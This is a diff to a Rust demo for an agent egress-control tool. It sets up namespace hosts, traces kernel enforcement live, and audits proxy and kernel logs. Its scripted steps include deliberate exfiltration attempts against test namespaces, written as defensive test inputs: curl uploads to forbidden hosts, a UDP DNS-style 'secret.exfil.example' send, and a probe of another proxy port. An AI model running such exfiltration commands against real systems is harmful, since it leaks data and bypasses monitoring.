@@ -1,80 +1,154 @@
-//! `tank-demo` (run by `cargo xtask demo`, root): tank on a throwaway agent cgroup with a
-//! built-in default policy. A stand-in proxy listens on loopback; an "agent" makes one allowed
-//! and several forbidden attempts; `trace` and `status` show what the kernel did; everything
-//! is torn down at the end, also on failure.
+//! `tank-demo` (run by `cargo xtask demo`, root): the audited path end to end on two hosts.
+//!
+//! Builds the [`TwoHosts`] topology (agent host with tank-loader and its nft baseline, proxy
+//! host with egress-proxy, an "internet" host with an HTTPS origin), shows `tank-loader trace`
+//! live while a scripted agent fetches through the proxy and then tries to exfiltrate around
+//! it, and ends with the auditor's cross-check of the kernel and proxy logs. Everything is torn
+//! down at the end, also on failure.
 
-use std::net::{TcpListener, UdpSocket};
-use std::process::Command;
+use std::io::{BufRead, BufReader};
+use std::process::{Command, Stdio};
+use std::time::Duration;
 
-use tank_integration_tests::{probe, workspace_bin, Loader, TestCgroups};
+use tank_integration_tests::topology::{
+    TwoHosts, AGENT_IP, FORBIDDEN_NAME, ORIGIN_IP, ORIGIN_NAME, PROXY_IP, PROXY_PORT,
+};
+use tank_integration_tests::workspace_bin;
+
+/// Time for a step's records to reach the live trace before the next step prints.
+const SETTLE: Duration = Duration::from_millis(400);
 
 fn main() {
-    let proxy = TcpListener::bind("127.0.0.1:0").expect("proxy stand-in");
-    let other = TcpListener::bind("127.0.0.1:0").expect("forbidden service");
-    let other6 = TcpListener::bind("[::1]:0").expect("forbidden IPv6 service");
-    let dns = UdpSocket::bind("127.0.0.1:0").expect("forbidden resolver");
-    let cgroups = TestCgroups::new();
-    let loader = Loader::start(
-        &cgroups,
-        &format!("proxies = [\"{}\"]", proxy.local_addr().unwrap()),
-    );
+    println!("== building three hosts as network namespaces:");
+    println!("   agent host {AGENT_IP} -> proxy host {PROXY_IP}:{PROXY_PORT} -> internet {ORIGIN_IP} ({ORIGIN_NAME}:443)");
+    let mut hosts = TwoHosts::start();
     println!(
-        "== tank-loader is enforcing on {} (config {})\n",
-        cgroups.agent.display(),
-        loader.config.display()
+        "== tank-loader enforces on cgroup {} (kernel gate + nft baseline); egress-proxy allows only {ORIGIN_NAME}:443\n",
+        hosts.cgroups.agent.display()
     );
 
-    let attempts = [
+    let mut trace = hosts
+        .agent
+        .command(workspace_bin("tank-loader"))
+        .arg("trace")
+        .arg("--config")
+        .arg(&hosts.loader.config)
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("start tank-loader trace");
+    let mut lines = BufReader::new(trace.stdout.take().unwrap()).lines();
+    let header = lines.next().and_then(Result::ok).unwrap_or_default();
+    println!("   trace | {header}");
+    std::thread::spawn(move || {
+        for line in lines.map_while(Result::ok) {
+            println!("   trace | {line}");
+        }
+    });
+
+    let proxy = hosts.proxy_url();
+    let ca = hosts.ca_pem.display().to_string();
+    let clone = hosts.dir.path().join("home/tools");
+    let steps: Vec<(&str, Command)> = vec![
         (
-            "fetch through the proxy",
-            vec!["tcp".to_owned(), proxy.local_addr().unwrap().to_string()],
+            "fetch https://origin.test/hello.txt through the proxy (curl)",
+            {
+                let mut c = hosts.agent_command("curl");
+                c.args([
+                    "-sS",
+                    "--max-time",
+                    "10",
+                    "--proxy",
+                    &proxy,
+                    "--cacert",
+                    &ca,
+                ])
+                .arg(format!("https://{ORIGIN_NAME}/hello.txt"));
+                c
+            },
         ),
         (
-            "direct connect to another service",
-            vec!["tcp".to_owned(), other.local_addr().unwrap().to_string()],
+            "clone https://origin.test/tools.git through the proxy (git)",
+            {
+                let mut c = hosts.agent_command("git");
+                c.args([
+                    "-c",
+                    &format!("http.proxy={proxy}"),
+                    "-c",
+                    &format!("http.sslCAInfo={ca}"),
+                ])
+                .args(["clone", "-q", &format!("https://{ORIGIN_NAME}/tools.git")])
+                .arg(&clone);
+                c
+            },
         ),
-        (
-            "IPv6 direct connect",
-            vec!["tcp".to_owned(), other6.local_addr().unwrap().to_string()],
-        ),
-        (
-            "IPv4-mapped IPv6 trick",
-            vec![
-                "tcp".to_owned(),
-                format!("[::ffff:127.0.0.1]:{}", other.local_addr().unwrap().port()),
-            ],
-        ),
-        (
-            "DNS exfiltration over UDP",
-            vec![
-                "udp-sendto".to_owned(),
-                dns.local_addr().unwrap().to_string(),
-            ],
-        ),
+        ("exfiltrate via the proxy to a site it does not allow", {
+            let mut c = hosts.agent_command("curl");
+            c.args([
+                "-sS",
+                "--max-time",
+                "10",
+                "--proxy",
+                &proxy,
+                "--cacert",
+                &ca,
+            ])
+            .arg(format!("https://{FORBIDDEN_NAME}/upload"));
+            c
+        }),
+        ("exfiltrate by a direct HTTPS connection", {
+            let mut c = hosts.agent_command("curl");
+            c.args(["-sSk", "--max-time", "5"])
+                .arg(format!("https://{ORIGIN_IP}/upload"));
+            c
+        }),
+        ("exfiltrate in a DNS query (UDP 53)", {
+            let mut c = hosts.agent_command("python3");
+            c.args([
+                "-c",
+                &format!("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret.exfil.example', ('{ORIGIN_IP}', 53))"),
+            ]);
+            c
+        }),
+        ("exfiltrate to another port of the proxy host", {
+            let mut c = hosts.agent_command("curl");
+            c.args(["-sS", "--max-time", "5"])
+                .arg(format!("http://{PROXY_IP}:8080/"));
+            c
+        }),
     ];
-    println!("== the agent (uid 65534, inside the cgroup) tries:");
-    for (what, args) in &attempts {
-        let args: Vec<&str> = args.iter().map(String::as_str).collect();
-        let (_, outcome) = probe(&cgroups.agent, Some(65534), &args);
-        println!("   {what:<36} -> {outcome}");
+    let mut proxied = 0;
+    for (what, mut cmd) in steps {
+        println!("\n== agent: {what}");
+        let (code, out) = hosts.run_agent(&mut cmd);
+        let last = out.lines().last().unwrap_or("").trim();
+        println!("   -> {} {last}", if code == 0 { "ok" } else { "FAILED:" });
+        if what.contains("through the proxy") && code == 0 {
+            proxied += 1;
+        }
+        std::thread::sleep(SETTLE);
     }
-    loader.records(attempts.len());
 
-    println!("\n== tank-loader trace --history --no-follow");
-    show(&loader, &["trace", "--history", "--no-follow"]);
-    println!("\n== tank-loader status");
-    show(&loader, &["status"]);
-    println!("\n== tank-loader audit verify");
+    // The proxy writes a record when a connection ends; stopping it syncs its log.
+    hosts.wait_proxy_records(proxied + 1);
+    hosts.wait_established(proxied);
+    std::thread::sleep(SETTLE);
+    let _ = trace.kill();
+    let _ = trace.wait();
+    hosts.stop_proxy();
+
+    println!(
+        "\n== the auditor: tank-loader audit cross-check --kernel KERNEL_LOG --proxy PROXY_LOG\n"
+    );
     let out = Command::new(workspace_bin("tank-loader"))
-        .args(["audit", "verify"])
-        .arg(&loader.audit_log)
+        .args(["audit", "cross-check", "--kernel"])
+        .arg(&hosts.loader.audit_log)
+        .arg("--proxy")
+        .arg(&hosts.proxy_log)
         .output()
-        .expect("verify");
+        .expect("run the cross-check");
     print!("{}", String::from_utf8_lossy(&out.stdout));
-    println!("\n== tearing down (loader stopped, gate detached, cgroup removed)");
-}
-
-fn show(loader: &Loader, args: &[&str]) {
-    let out = loader.cli(args);
-    print!("{}", String::from_utf8_lossy(&out.stdout));
+    eprint!("{}", String::from_utf8_lossy(&out.stderr));
+    println!("\n== tearing down (loader stopped, gate detached, namespaces and cgroup removed)");
+    drop(hosts);
+    std::process::exit(out.status.code().unwrap_or(1));
 }
